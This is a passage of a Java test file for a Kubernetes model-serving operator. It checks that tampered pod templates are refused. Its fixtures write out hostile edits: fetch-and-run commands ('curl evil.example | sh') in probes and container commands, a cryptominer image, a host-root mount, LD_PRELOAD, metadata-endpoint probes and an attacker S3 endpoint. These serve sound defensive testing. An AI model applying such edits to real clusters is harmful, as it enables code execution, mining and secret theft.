package dev.fledge.operator.workload;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fledge.api.Labels;
import dev.fledge.api.ModelRelease;
import dev.fledge.api.spec.HostPathMounts;
import dev.fledge.api.spec.ModelReleaseSpec;
import dev.fledge.api.spec.ModelSpec;
import dev.fledge.api.spec.ServerSpec;
import dev.fledge.api.spec.UpstreamSpec;
import dev.fledge.api.status.ServingStatus;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.ExecAction;
import io.fabric8.kubernetes.api.model.IntOrString;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import io.fabric8.kubernetes.api.model.PodTemplateSpec;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.Sysctl;
import io.fabric8.kubernetes.api.model.Volume;
import io.fabric8.kubernetes.api.model.VolumeBuilder;
import io.fabric8.kubernetes.api.model.VolumeMount;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Review of issue 15, LOW 4: a kept pod template is restored only if it is one an operator built for the recorded configuration. */
class KeptTemplateCheckTest {
    static final ServerDefaults DEFAULTS = new ServerDefaults("registry.example.com/models/server:1", 8080);
    static final PodHardening HARDENING = PodHardening.standard();
    static final DesiredDeployment OPERATOR = new DesiredDeployment(DEFAULTS, HARDENING);
    final ModelRelease mr = release();
    final ServingStatus recorded = new ServingConfig(DEFAULTS).of(mr);

    @Test
    void aTemplateAnyOperatorRevisionBuiltForTheRecordedConfigurationPasses() {
        for (PodHardening built : List.of(HARDENING, new PodHardening(java.util.Optional.empty(), List.of()))) {
            PodTemplateSpec t = new DesiredDeployment(DEFAULTS, built)
                    .build(mr, Labels.TRACK_STABLE, recorded, 2)
                    .getSpec()
                    .getTemplate();
            assertThat(refusal(t, recorded)).isEmpty();
        }
    }

    static Stream<Arguments> tampered() {
        return Stream.of(
                edit("another image", t -> container(t).setImage("docker.io/evil/miner:1"), "image"),
                edit("a service account", t -> t.getSpec().setServiceAccountName("admin"), "service account"),
                edit("the token mounted", t -> t.getSpec().setAutomountServiceAccountToken(true), "service account"),
                edit("the host network", t -> t.getSpec().setHostNetwork(true), "host namespace"),
                edit(
                        "a privileged container",
                        t -> container(t).getSecurityContext().setPrivileged(true),
                        "privileges"),
                edit(
                        "privilege escalation",
                        t -> container(t).getSecurityContext().setAllowPrivilegeEscalation(true),
                        "privileges"),
                edit("root", t -> t.getSpec().getSecurityContext().setRunAsUser(0L), "root"),
                edit(
                        "a second container",
                        t -> t.getSpec()
                                .getContainers()
                                .add(new ContainerBuilder()
                                        .withName("x")
                                        .withImage("evil")
                                        .build()),
                        "exactly one container"),
                edit(
                        "a node directory",
                        t -> t.getSpec()
                                .getVolumes()
                                .add(new VolumeBuilder()
                                        .withName("root")
                                        .withNewHostPath()
                                        .withPath("/")
                                        .endHostPath()
                                        .build()),
                        "node directory"),
                edit(
                        "a mount over the server",
                        t -> container(t)
                                .getVolumeMounts()
                                .add(new VolumeMount(
                                        "/deployments", null, "fledge-feedback-key", null, null, null, null)),
                        "/deployments"),
                edit(
                        "a preloaded library",
                        t -> container(t).getEnv().add(new EnvVar("LD_PRELOAD", "/x.so", null)),
                        "LD_PRELOAD"),
                edit(
                        "another model",
                        t -> container(t).getEnv().stream()
                                .filter(e -> e.getName().equals("FLEDGE_MODEL_URI"))
                                .forEach(e -> e.setValue("s3://evil/model")),
                        "model URI"),
                edit(
                        "a second model URI after the recorded one (the last one wins in the pod)",
                        t -> container(t).getEnv().add(new EnvVar("FLEDGE_MODEL_URI", "s3://evil/model", null)),
                        "FLEDGE_MODEL_URI is set twice"),
                edit(
                        "a second key file after the operator's",
                        t -> container(t)
                                .getEnv()
                                .add(new EnvVar("FLEDGE_FEEDBACK_SIGNING_KEY_FILE", "/data/mine", null)),
                        "FLEDGE_FEEDBACK_SIGNING_KEY_FILE is set twice"),
                edit(
                        "a raised download cap (review MED 1: FLEDGE_* passed at any value)",
                        t -> setEnv(t, "FLEDGE_MODEL_MAX_DOWNLOAD_SIZE", "999T"),
                        "FLEDGE_MODEL_MAX_DOWNLOAD_SIZE is not the value this operator sets (20G)"),
                edit(
                        "another public port",
                        t -> setEnv(t, "FLEDGE_PUBLIC_PORT", "9999"),
                        "FLEDGE_PUBLIC_PORT is not the value"),
                edit(
                        "a FLEDGE_ setting the operator never sets",
                        t -> container(t).getEnv().add(new EnvVar("FLEDGE_MODEL_ALLOW_INSECURE", "true", null)),
                        "FLEDGE_MODEL_ALLOW_INSECURE is not one a release or the operator sets"),
                edit(
                        "a checksum the recorded model does not name",
                        t -> container(t).getEnv().add(new EnvVar("FLEDGE_MODEL_SHA256", "00", null)),
                        "FLEDGE_MODEL_SHA256 is not one a release or the operator sets"),
                edit(
                        "another release's key",
                        t -> t.getSpec().getVolumes().stream()
                                .filter(v -> v.getName().equals("fledge-feedback-key"))
                                .forEach(v -> v.getSecret().setSecretName("billing-feedback-key")),
                        "not the release's key Secret assistant-feedback-key"),
                edit(
                        "another release's key under another volume name",
                        t -> {
                            t.getSpec()
                                    .getVolumes()
                                    .add(new VolumeBuilder()
                                            .withName("k2")
                                            .withNewSecret()
                                            .withSecretName("billing-feedback-key")
                                            .endSecret()
                                            .build());
                            container(t)
                                    .getVolumeMounts()
                                    .add(new VolumeMount("/data/k", null, "k2", true, null, null, null));
                        },
                        "mounts the response-id key Secret billing-feedback-key"),
                edit(
                        "a mount below a claim's, where a symlink can send it over the image's code",
                        t -> {
                            t.getSpec()
                                    .getVolumes()
                                    .add(new VolumeBuilder()
                                            .withName("p")
                                            .withNewPersistentVolumeClaim()
                                            .withClaimName("weights")
                                            .endPersistentVolumeClaim()
                                            .build());
                            container(t)
                                    .getVolumeMounts()
                                    .add(new VolumeMount("/data", null, "p", true, null, null, null));
                            container(t)
                                    .getVolumeMounts()
                                    .add(new VolumeMount("/data/lt", null, "p", true, null, "payload", null));
                        },
                        "its mount /data/lt: it is at or below the mount /data"),
                edit(
                        "the key mounted by a sub-path",
                        t -> container(t).getVolumeMounts().stream()
                                .filter(m -> m.getName().equals("fledge-feedback-key"))
                                .forEach(m -> m.setSubPath("key")),
                        "its mount /var/run/fledge/feedback-key"),
                edit(
                        "another release's key in an env variable",
                        t -> container(t)
                                .getEnv()
                                .add(new io.fabric8.kubernetes.api.model.EnvVarBuilder()
                                        .withName("LEAK")
                                        .withNewValueFrom()
                                        .withNewSecretKeyRef()
                                        .withName("billing-feedback-key")
                                        .withKey("key")
                                        .endSecretKeyRef()
                                        .endValueFrom()
                                        .build()),
                        "reads the response-id key Secret billing-feedback-key"),
                edit(
                        "an NFS volume",
                        t -> t.getSpec()
                                .getVolumes()
                                .add(new VolumeBuilder()
                                        .withName("share")
                                        .withNewNfs()
                                        .withServer("10.0.0.1")
                                        .withPath("/")
                                        .endNfs()
                                        .build()),
                        "template.spec.volumes[2].nfs"),
                edit(
                        "a projected token",
                        t -> t.getSpec()
                                .getVolumes()
                                .add(new VolumeBuilder()
                                        .withName("token")
                                        .withNewProjected()
                                        .addNewSource()
                                        .withNewServiceAccountToken()
                                        .withPath("t")
                                        .endServiceAccountToken()
                                        .endSource()
                                        .endProjected()
                                        .build()),
                        "projected"),
                edit(
                        "a host port",
                        t -> container(t).getPorts().get(0).setHostPort(80),
                        "template.spec.containers[0].ports[0].hostPort"),
                edit(
                        "an exec probe",
                        t -> container(t)
                                .getLivenessProbe()
                                .setExec(new ExecAction(List.of("sh", "-c", "curl evil | sh"))),
                        "livenessProbe.exec"),
                edit(
                        "a probe sent to another host",
                        t -> container(t).getReadinessProbe().getHttpGet().setHost("169.254.169.254"),
                        "readinessProbe.httpGet.host"),
                edit(
                        "a sysctl",
                        t -> t.getSpec().getSecurityContext().setSysctls(List.of(new Sysctl("kernel.msgmax", "65536"))),
                        "securityContext.sysctls"),
                edit("a runtime class", t -> t.getSpec().setRuntimeClassName("unsandboxed"), "runtimeClassName"),
                edit(
                        "a shared process namespace",
                        t -> t.getSpec().setShareProcessNamespace(true),
                        "shareProcessNamespace"),
                edit(
                        "seccomp off",
                        t -> t.getSpec()
                                .getSecurityContext()
                                .getSeccompProfile()
                                .setType("Unconfined"),
                        "seccomp"),
                edit(
                        "capabilities kept",
                        t -> container(t).getSecurityContext().getCapabilities().setDrop(List.of()),
                        "capabilities"),
                edit("another scheduler", t -> t.getSpec().setSchedulerName("mine"), "scheduler"),
                edit(
                        "an ephemeral claim with an empty storage class",
                        t -> t.getSpec()
                                .getVolumes()
                                .add(new VolumeBuilder()
                                        .withName("scratch")
                                        .withNewEphemeral()
                                        .withNewVolumeClaimTemplate()
                                        .withNewSpec()
                                        .withStorageClassName("")
                                        .endSpec()
                                        .endVolumeClaimTemplate()
                                        .endEphemeral()
                                        .build()),
                        "storageClassName: empty"),
                edit(
                        "the download limits dropped (the server's own, higher, would apply)",
                        t -> container(t).getEnv().removeIf(e -> e.getName().equals("FLEDGE_MODEL_MAX_DOWNLOAD_SIZE")),
                        "FLEDGE_MODEL_MAX_DOWNLOAD_SIZE is missing"),
                edit(
                        "the two ports' names swapped (the public Service would reach the port that honours the header)",
                        t -> {
                            container(t).getPorts().get(0).setContainerPort(8081);
                            container(t).getPorts().get(1).setContainerPort(8080);
                        },
                        "its port http 8081"),
                edit(
                        "a probe on another port",
                        t -> container(t).getReadinessProbe().getHttpGet().setPort(new IntOrString(9999)),
                        "probe"),
                edit(
                        "a probe on another path",
                        t -> container(t).getLivenessProbe().getHttpGet().setPath("/-/quit"),
                        "probe"),
                edit("the root group", t -> t.getSpec().getSecurityContext().setFsGroup(0L), "root group"),
                edit(
                        "a cloud role",
                        t -> t.getMetadata().getAnnotations().put("iam.amazonaws.com/role", "admin"),
                        "iam.amazonaws.com/role"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("tampered")
    void aTemplateNoOperatorBuiltIsRefusedWithTheReason(String what, Consumer<PodTemplateSpec> change, String reason) {
        PodTemplateSpec t = Serialization.clone(new DesiredDeployment(DEFAULTS)
                .build(mr, Labels.TRACK_STABLE, recorded, 2)
                .getSpec()
                .getTemplate());
        if (t.getMetadata().getAnnotations() == null) {
            t.getMetadata().setAnnotations(new HashMap<>());
        }
        change.accept(t);

        assertThat(refusal(t, recorded))
                .hasValueSatisfying(why -> assertThat(why).contains(reason));
    }

    @Test
    void aTemplateAsTheApiServerStoresItOrAnOlderRevisionBuiltItPasses() {
        PodTemplateSpec stored = Serialization.clone(new DesiredDeployment(DEFAULTS)
                .build(mr, Labels.TRACK_STABLE, recorded, 2)
                .getSpec()
                .getTemplate());
        // what a real API server fills in when it stores the Deployment
        stored.getSpec().setRestartPolicy("Always");
        stored.getSpec().setDnsPolicy("ClusterFirst");
        stored.getSpec().setSchedulerName("default-scheduler");
        container(stored).setTerminationMessagePath("/dev/termination-log");
        container(stored).setTerminationMessagePolicy("File");
        // the policy the API server set when the Deployment was created, kept through later images
        container(stored).setImagePullPolicy("Always");
        container(stored).getReadinessProbe().setTimeoutSeconds(1);
        container(stored).getReadinessProbe().setSuccessThreshold(1);
        container(stored).getReadinessProbe().getHttpGet().setScheme("HTTP");
        assertThat(refusal(stored, recorded)).isEmpty();

        // before revision 2 and 3: no key, no public port, readiness on http (the limits are older than revisions)
        PodTemplateSpec older = Serialization.clone(stored);
        container(older)
                .getEnv()
                .removeIf(e -> e.getName().equals("FLEDGE_PUBLIC_PORT")
                        || e.getName().equals("FLEDGE_FEEDBACK_SIGNING_KEY_FILE"));
        container(older).getVolumeMounts().clear();
        older.getSpec().getVolumes().clear();
        container(older).getPorts().remove(1);
        container(older).getReadinessProbe().getHttpGet().setPort(new IntOrString("http"));
        assertThat(refusal(older, recorded)).isEmpty();
    }

    /**
     * A template kept from before the operator's download limits were raised holds lower ones: no higher than the
     * operator's, it may be restored; a higher one is refused (the rows above).
     */
    @Test
    void aLimitBelowTheOperatorsIsRestoredOneAboveIsNot() {
        Map<String, String> raised = new DesiredDeployment(
                        DEFAULTS, HARDENING, new ModelServerLimits("100G", "200G", 20_000, 200))
                .operatorEnvValues("assistant", recorded);
        PodTemplateSpec builtBefore = Serialization.clone(
                OPERATOR.build(mr, Labels.TRACK_STABLE, recorded, 2).getSpec().getTemplate());
        assertThat(KeptTemplateCheck.refusal(builtBefore, recorded, raised, HARDENING, Optional.empty()))
                .isEmpty();

        setEnv(builtBefore, "FLEDGE_MODEL_MAX_EXTRACTED_SIZE", "1T");
        assertThat(KeptTemplateCheck.refusal(builtBefore, recorded, raised, HARDENING, Optional.empty()))
                .hasValueSatisfying(why -> assertThat(why).contains("FLEDGE_MODEL_MAX_EXTRACTED_SIZE"));
    }

    @Test
    void theTenantsOwnEnvPassesAsTheSpecCheckLetsItButNotTheModelsChecksumDropped() {
        ModelRelease withEnv = release();
        withEnv.getSpec().getModel().setSha256("a".repeat(64));
        withEnv.getSpec()
                .getServer()
                .setTemplate(new io.fabric8.kubernetes.api.model.PodTemplateSpecBuilder()
                        .withNewSpec()
                        .addNewContainer()
                        .withName(ServerDefaults.CONTAINER)
                        .addNewEnv()
                        .withName("FLEDGE_SERVING_MAX_CONCURRENCY")
                        .withValue("4")
                        .endEnv()
                        .addNewEnv()
                        .withName("LOG_LEVEL")
                        .withValue("debug")
                        .endEnv()
                        .endContainer()
                        .endSpec()
                        .build());
        ServingStatus serving = new ServingConfig(DEFAULTS).of(withEnv);
        PodTemplateSpec t = Serialization.clone(OPERATOR.build(withEnv, Labels.TRACK_STABLE, serving, 2)
                .getSpec()
                .getTemplate());
        assertThat(refusal(t, serving)).isEmpty();

        container(t).getEnv().removeIf(e -> e.getName().equals("FLEDGE_MODEL_SHA256"));
        assertThat(refusal(t, serving))
                .hasValueSatisfying(why -> assertThat(why).contains("FLEDGE_MODEL_SHA256 is missing"));
    }

    /**
     * A model on a claim ({@code pvc://}): the template mounts the claim read-only at the operator's path, where no
     * template of the spec may mount. That mount refused every such kept template before, so each operator upgrade
     * rebuilt the stable Deployment of a {@code pvc://} release (its pods restarted, ungated). Another claim, a
     * writable mount, a sub-path, or the mount on a model that is not on a claim is still refused.
     */
    @Test
    void aTemplateOfAModelOnAClaimPassesButNotWithAnotherClaimOrAWritableMount() {
        ModelRelease onClaim = release();
        onClaim.getSpec().getModel().setUri("pvc://llama-weights/assistant/1.0.0");
        ServingStatus rec = new ServingConfig(DEFAULTS).of(onClaim);
        PodTemplateSpec built = Serialization.clone(
                OPERATOR.build(onClaim, Labels.TRACK_STABLE, rec, 2).getSpec().getTemplate());
        assertThat(claimMount(built).getReadOnly()).isTrue();
        assertThat(refusal(built, rec)).isEmpty();

        Map<String, Consumer<PodTemplateSpec>> tampered = Map.of(
                "another claim",
                t -> t.getSpec().getVolumes().stream()
                        .filter(v -> v.getName().equals(ModelClaim.VOLUME))
                        .forEach(v -> v.getPersistentVolumeClaim().setClaimName("another-teams-weights")),
                "a writable claim",
                t -> t.getSpec().getVolumes().stream()
                        .filter(v -> v.getName().equals(ModelClaim.VOLUME))
                        .forEach(v -> v.getPersistentVolumeClaim().setReadOnly(false)),
                "a writable mount",
                t -> claimMount(t).setReadOnly(false),
                "a sub-path",
                t -> claimMount(t).setSubPath("other-model"),
                "a mount not said read-only",
                t -> claimMount(t).setReadOnly(null),
                "a claim not said read-only",
                t -> t.getSpec().getVolumes().stream()
                        .filter(v -> v.getName().equals(ModelClaim.VOLUME))
                        .forEach(v -> v.getPersistentVolumeClaim().setReadOnly(null)),
                "a second volume of that name",
                t -> t.getSpec()
                        .getVolumes()
                        .add(new VolumeBuilder()
                                .withName(ModelClaim.VOLUME)
                                .withNewPersistentVolumeClaim()
                                .withClaimName("llama-weights")
                                .withReadOnly(true)
                                .endPersistentVolumeClaim()
                                .build()),
                "the claim's path with a trailing slash",
                t -> claimMount(t).setMountPath(ModelClaim.MOUNT_PATH + "/"));
        tampered.forEach((what, change) -> {
            PodTemplateSpec t = Serialization.clone(built);
            change.accept(t);
            assertThat(refusal(t, rec))
                    .as(what)
                    .hasValueSatisfying(why -> assertThat(why).contains(ModelClaim.MOUNT_PATH));
        });

        PodTemplateSpec s3WithTheMount = Serialization.clone(
                OPERATOR.build(mr, Labels.TRACK_STABLE, recorded, 2).getSpec().getTemplate());
        s3WithTheMount
                .getSpec()
                .getVolumes()
                .add(Serialization.clone(built.getSpec().getVolumes().stream()
                        .filter(v -> v.getName().equals(ModelClaim.VOLUME))
                        .findFirst()
                        .orElseThrow()));
        container(s3WithTheMount).getVolumeMounts().add(Serialization.clone(claimMount(built)));
        assertThat(refusal(s3WithTheMount, recorded))
                .as("the claim's mount on a model that is not on a claim")
                .hasValueSatisfying(why -> assertThat(why).contains(ModelClaim.MOUNT_PATH));
    }

    /**
     * Issue 17 part 6: a model on S3 with its store's Secret ({@code spec.model.s3}) has the Secret mounted read-only at
     * the operator's path, where no template of the spec may mount: kept as this operator writes it for the recorded
     * store; another Secret, other keys, another mode, a writable mount, the mount or a setting missing, or the mount
     * without a recorded Secret, refused.
     */
    @Test
    void aTemplateOfAModelOnS3WithItsSecretPassesButNotWithAnotherSecretOrAWritableMount() {
        ModelRelease onS3 = release();
        onS3.getSpec()
                .getModel()
                .setS3(new dev.fledge.api.spec.S3StoreSpec()
                        .withEndpoint("http://minio.storage:9000")
                        .withSecretName("model-store"));
        ServingStatus rec = new ServingConfig(DEFAULTS).of(onS3);
        PodTemplateSpec built = Serialization.clone(
                OPERATOR.build(onS3, Labels.TRACK_STABLE, rec, 2).getSpec().getTemplate());
        assertThat(s3Mount(built).getReadOnly()).isTrue();
        assertThat(refusal(built, rec)).isEmpty();
        PodTemplateSpec stored = Serialization.clone(built);
        volume(stored, ModelStoreS3.VOLUME).getSecret().setDefaultMode(292); // 0444 as the API server writes it
        assertThat(refusal(stored, rec)).as("as the API server stores it").isEmpty();

        Map<String, Consumer<PodTemplateSpec>> tampered = new java.util.LinkedHashMap<>();
        tampered.put(
                "another Secret",
                t -> volume(t, ModelStoreS3.VOLUME).getSecret().setSecretName("other-team"));
        tampered.put(
                "all of the Secret's keys",
                t -> volume(t, ModelStoreS3.VOLUME).getSecret().setItems(null));
        tampered.put(
                "another key",
                t -> volume(t, ModelStoreS3.VOLUME)
                        .getSecret()
                        .getItems()
                        .get(0)
                        .setKey("token"));
        tampered.put(
                "a writable file mode",
                t -> volume(t, ModelStoreS3.VOLUME).getSecret().setDefaultMode(0666));
        tampered.put(
                "an optional Secret",
                t -> volume(t, ModelStoreS3.VOLUME).getSecret().setOptional(true));
        tampered.put("a writable mount", t -> s3Mount(t).setReadOnly(false));
        tampered.put("a mount not said read-only", t -> s3Mount(t).setReadOnly(null));
        tampered.put("a sub-path", t -> s3Mount(t).setSubPath("access-key-id"));
        tampered.put("no mount", t -> container(t).getVolumeMounts().remove(s3Mount(t)));
        tampered.put(
                "a second mount of the Secret elsewhere",
                t -> container(t)
                        .getVolumeMounts()
                        .add(new io.fabric8.kubernetes.api.model.VolumeMountBuilder(s3Mount(t))
                                .withMountPath("/models")
                                .build()));
        tampered.put(
                "a second volume of that name",
                t -> t.getSpec().getVolumes().add(Serialization.clone(volume(t, ModelStoreS3.VOLUME))));
        tampered.forEach((what, change) -> {
            PodTemplateSpec t = Serialization.clone(built);
            change.accept(t);
            assertThat(refusal(t, rec))
                    .as(what)
                    .hasValueSatisfying(why -> assertThat(why).contains(ModelStoreS3.MOUNT_PATH));
        });

        for (String name : List.of("FLEDGE_MODEL_S3_ENDPOINT", "FLEDGE_MODEL_S3_ACCESS_KEY_ID_FILE")) {
            PodTemplateSpec t = Serialization.clone(built);
            container(t).getEnv().removeIf(e -> e.getName().equals(name));
            assertThat(refusal(t, rec))
                    .as("without " + name)
                    .hasValueSatisfying(why -> assertThat(why).contains(name + " is missing"));
            PodTemplateSpec other = Serialization.clone(built);
            setEnv(other, name, "http://attacker.example");
            assertThat(refusal(other, rec))
                    .as(name + " changed")
                    .hasValueSatisfying(why -> assertThat(why).contains(name + " is not the value this operator sets"));
        }

        PodTemplateSpec withoutStore = Serialization.clone(
                OPERATOR.build(mr, Labels.TRACK_STABLE, recorded, 2).getSpec().getTemplate());
        withoutStore.getSpec().getVolumes().add(Serialization.clone(volume(built, ModelStoreS3.VOLUME)));
        container(withoutStore).getVolumeMounts().add(Serialization.clone(s3Mount(built)));
        assertThat(refusal(withoutStore, recorded))
                .as("the store's mount on a release that records no Secret")
                .hasValueSatisfying(why -> assertThat(why).contains(ModelStoreS3.MOUNT_PATH));
    }

    private static VolumeMount s3Mount(PodTemplateSpec t) {
        return container(t).getVolumeMounts().stream()
                .filter(m -> m.getName().equals(ModelStoreS3.VOLUME))
                .findFirst()
                .orElseThrow();
    }

    private static VolumeMount claimMount(PodTemplateSpec t) {
        return container(t).getVolumeMounts().stream()
                .filter(m -> m.getName().equals(ModelClaim.VOLUME))
                .findFirst()
                .orElseThrow();
    }

    /**
     * Issue 17: a stable Deployment of another server ({@code spec.server.upstream}: vLLM behind the Fledge sidecar)
     * is kept across an operator upgrade as one of the Fledge server is. Before, its two containers were refused, so an
     * upgrade rebuilt stable and every pod of the model restarted, ungated, and reloaded its weights. Here as the API
     * server stores it, its GPUs spelled otherwise, and with a lower download limit on the sidecar (an older operator).
     */
    @Test
    void anUpstreamTemplateAnOperatorBuiltPassesAsTheApiServerStoresIt() {
        ServingStatus rec = upstreamRecorded();
        PodTemplateSpec stored = upstreamTemplate(rec);
        stored.getSpec().setRestartPolicy("Always");
        stored.getSpec().setDnsPolicy("ClusterFirst");
        stored.getSpec().setSchedulerName("default-scheduler");
        for (var c : stored.getSpec().getContainers()) {
            c.setTerminationMessagePath("/dev/termination-log");
            c.setTerminationMessagePolicy("File");
            c.setImagePullPolicy("IfNotPresent");
        }
        upstream(stored).getResources().getLimits().put("nvidia.com/gpu", new Quantity("1000m"));
        proxy(stored).getEnv().stream()
                .filter(e -> e.getName().equals("FLEDGE_MODEL_MAX_DOWNLOAD_SIZE"))
                .forEach(e -> e.setValue("1G"));

        assertThat(refusal(stored, rec)).isEmpty();

        PodTemplateSpec otherInstall =
                Serialization.clone(new DesiredDeployment(DEFAULTS, new PodHardening(Optional.of(2000L), List.of()))
                        .build(upstreamRelease(), Labels.TRACK_STABLE, rec, 2)
                        .getSpec()
                        .getTemplate());
        assertThat(refusal(otherInstall, rec))
                .as("built by an operator with another runAsUser")
                .isEmpty();
    }

    static Stream<Arguments> tamperedUpstream() {
        return Stream.of(
                edit("the server's image", t -> upstream(t).setImage("docker.io/evil/miner:1"), "image"),
                edit("the sidecar's image", t -> proxy(t).setImage("docker.io/evil/proxy:1"), "image"),
                edit(
                        "the server's command",
                        t -> upstream(t).setCommand(List.of("sh", "-c", "curl evil.example | sh")),
                        "command: not as built"),
                edit(
                        "more GPUs",
                        t -> upstream(t).getResources().getLimits().put("nvidia.com/gpu", new Quantity("8")),
                        "resources: not as built"),
                edit(
                        "an operator variable on the server",
                        t -> upstream(t).getEnv().add(new EnvVar("FLEDGE_MODEL_URI", "s3://evil/m", null)),
                        "env: not as built"),
                edit(
                        "the tenant's variable at another value",
                        t -> env(upstream(t), "HF_HUB_OFFLINE").setValue("0"),
                        "env: not as built"),
                edit(
                        "the tenant's variable dropped",
                        t -> upstream(t).getEnv().removeIf(e -> e.getName().equals("HF_HUB_OFFLINE")),
                        "env: not as built"),
                edit(
                        "another claim of weights",
                        t -> volume(t, "models").getPersistentVolumeClaim().setClaimName("evil-weights"),
                        "its volume models"),
                edit(
                        "the weights writable",
                        t -> upstream(t).getVolumeMounts().stream()
                                .filter(m -> m.getName().equals("models"))
                                .forEach(m -> m.setReadOnly(false)),
                        "volumeMounts: not as built"),
                edit(
                        "code planted below HOME",
                        t -> mountedOnTheServer(
                                t,
                                new VolumeBuilder()
                                        .withName("site")
                                        .withNewConfigMap()
                                        .withName("site-packages")
                                        .endConfigMap()
                                        .build(),
                                "/tmp/.local/lib/python3.12/site-packages"),
                        "volumeMounts: not as built"),
                edit(
                        "the key under another name on the server",
                        t -> mountedOnTheServer(
                                t,
                                new VolumeBuilder()
                                        .withName("k2")
                                        .withNewSecret()
                                        .withSecretName("assistant-feedback-key")
                                        .endSecret()
                                        .build(),
                                "/data/k"),
                        "response-id key"),
                edit(
                        "a second port on the server",
                        t -> upstream(t)
                                .getPorts()
                                .add(new io.fabric8.kubernetes.api.model.ContainerPort(
                                        9999, null, null, "debug", "TCP")),
                        "ports: not as built"),
                edit(
                        "a probe on the server",
                        t -> upstream(t).setReadinessProbe(proxy(t).getReadinessProbe()),
                        "readinessProbe: not one the operator sets"),
                edit(
                        "a privileged server",
                        t -> upstream(t).getSecurityContext().setPrivileged(true),
                        "model-server may gain privileges"),
                edit(
                        "the sidecar sent elsewhere",
                        t -> env(proxy(t), "FLEDGE_UPSTREAM_URL").setValue("http://evil.example"),
                        "FLEDGE_UPSTREAM_URL is not the value"),
                edit(
                        "the sidecar without its upstream",
                        t -> proxy(t).getEnv().removeIf(e -> e.getName().equals("FLEDGE_UPSTREAM_URL")),
                        "FLEDGE_UPSTREAM_URL is missing"),
                edit(
                        "a tenant variable on the sidecar",
                        t -> proxy(t).getEnv().add(new EnvVar("LOG_LEVEL", "debug", null)),
                        "LOG_LEVEL is not one the operator sets on the sidecar"),
                edit(
                        "GPUs on the sidecar",
                        t -> proxy(t).getResources().getLimits().put("nvidia.com/gpu", new Quantity("8")),
                        "more than cpu and memory"),
                edit(
                        "the sidecar on the server's /tmp",
                        t -> proxy(t).getVolumeMounts().stream()
                                .filter(m -> m.getMountPath().equals("/tmp"))
                                .forEach(m -> m.setName("fledge-tmp")),
                        "its mounts"),
                edit(
                        "the sidecar without its public port",
                        t -> {
                            proxy(t).getPorts().removeIf(p -> p.getName().equals(ServerDefaults.PUBLIC_PORT));
                            proxy(t).getEnv().removeIf(e -> e.getName().equals("FLEDGE_PUBLIC_PORT"));
                            proxy(t).getReadinessProbe().getHttpGet().setPort(new IntOrString(ServerDefaults.PORT));
                        },
                        "FLEDGE_PUBLIC_PORT is missing"),
                edit(
                        "a third container",
                        t -> t.getSpec()
                                .getContainers()
                                .add(new ContainerBuilder()
                                        .withName("miner")
                                        .withImage("docker.io/evil/miner:1")
                                        .build()),
                        "exactly two containers"),
                edit(
                        "the sidecar's public port gone, its variable kept",
                        t -> {
                            proxy(t).getPorts().removeIf(p -> p.getName().equals(ServerDefaults.PUBLIC_PORT));
                            proxy(t).getReadinessProbe().getHttpGet().setPort(new IntOrString(ServerDefaults.PORT));
                        },
                        "does not declare the port http-public or its readiness does not ask it"),
                edit(
                        "the sidecar's readiness on the audience port",
                        t -> proxy(t).getReadinessProbe().getHttpGet().setPort(new IntOrString(ServerDefaults.PORT)),
                        "does not declare the port http-public or its readiness does not ask it"),
                edit(
                        "the key mounted into the server",
                        t -> upstream(t)
                                .getVolumeMounts()
                                .add(new VolumeMount("/data/k", null, "fledge-feedback-key", true, null, null, null)),
                        "volumeMounts: not as built"),
                edit(
                        "a volume nothing mounts",
                        t -> t.getSpec()
                                .getVolumes()
                                .add(new VolumeBuilder()
                                        .withName("spare")
                                        .withNewEmptyDir()
                                        .endEmptyDir()
                                        .build()),
                        "its volumes"),
                edit(
                        "a volume name twice",
                        t -> t.getSpec()
                                .getVolumes()
                                .add(Serialization.clone(
                                        t.getSpec().getVolumes().get(0))),
                        "its volumes"),
                edit(
                        "a writable root filesystem on the server",
                        t -> upstream(t).getSecurityContext().setReadOnlyRootFilesystem(false),
                        "securityContext: not as built"),
                edit(
                        "a writable root filesystem on the sidecar",
                        t -> proxy(t).getSecurityContext().setReadOnlyRootFilesystem(false),
                        "root filesystem is not read-only"),
                edit(
                        "another node",
                        t -> t.getSpec().setNodeSelector(Map.of("kubernetes.io/hostname", "control-plane")),
                        "nodeSelector: not"),
                edit(
                        "every taint tolerated",
                        t -> t.getSpec()
                                .setTolerations(List.of(new io.fabric8.kubernetes.api.model.TolerationBuilder()
                                        .withOperator("Exists")
                                        .build())),
                        "tolerations: not"),
                edit(
                        "no grace for requests in flight",
                        t -> t.getSpec().setTerminationGracePeriodSeconds(0L),
                        "terminationGracePeriodSeconds: not as built"),
                edit(
                        "the metrics scraped elsewhere",
                        t -> t.getMetadata().getAnnotations().put(DesiredDeployment.UPSTREAM_METRICS_PATH, "/evil"),
                        "pod annotations"),
                edit(
                        "another version's label",
                        t -> t.getMetadata().getLabels().put("fledge.dev/version", "2.0.0"),
                        "pod labels"),
                edit(
                        "the termination message over the key",
                        t -> proxy(t).setTerminationMessagePath("/var/run/fledge/feedback-key/key"),
                        "writes its termination message"),
                edit("a stale cached image", t -> upstream(t).setImagePullPolicy("Never"), "pulls its image Never"),
                edit(
                        "service links left to the API server",
                        t -> t.getSpec().setEnableServiceLinks(null),
                        "service links"),
                edit(
                        "a node selector with an empty value",
                        t -> t.getSpec().setNodeSelector(Map.of("node-role.kubernetes.io/control-plane", "")),
                        "nodeSelector: not"),
                edit("the sidecar renamed", t -> proxy(t).setName("sidecar"), "is not fledge-proxy"),
                edit("the sidecar alone", t -> t.getSpec().getContainers().remove(0), "exactly two containers"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("tamperedUpstream")
    void anUpstreamTemplateNoOperatorBuiltIsRefusedWithTheReason(
            String what, Consumer<PodTemplateSpec> change, String reason) {
        ServingStatus rec = upstreamRecorded();
        PodTemplateSpec t = upstreamTemplate(rec);
        change.accept(t);

